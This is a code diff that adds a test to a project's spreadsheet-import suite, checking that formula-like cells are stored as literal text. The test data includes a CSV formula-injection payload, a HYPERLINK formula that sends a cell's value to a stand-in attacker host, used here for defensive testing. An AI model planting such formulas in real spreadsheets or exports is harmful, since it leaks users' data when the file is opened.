@@ -148,6 +148,19 @@ def test_import_of_an_excel_file(people, tmp_path):
     assert Listing.objects.get(title=GOOD_ROWS[0][1]).trl == 6
 
 
+def test_a_cell_that_looks_like_a_formula_is_stored_as_the_text_it_is(people, tmp_path):
+    """Nothing is evaluated on import; the exports write such text as text (tests/core/test_exports.py)."""
+    formula = '=HYPERLINK("http://evil.example/?leak="&A2,"x")'
+    call_command(
+        "market",
+        "import",
+        str(_csv(tmp_path, [[GOOD_ROWS[0][0], formula, "+1+1", *GOOD_ROWS[0][3:]]])),
+        stdout=io.StringIO(),
+    )
+    listing = Listing.objects.get(title=formula)
+    assert listing.description == "+1+1"
+
+
 def test_import_errors_name_the_spreadsheet_row_even_after_a_blank_row(people, tmp_path):
     wb = Workbook()
     ws = wb.active
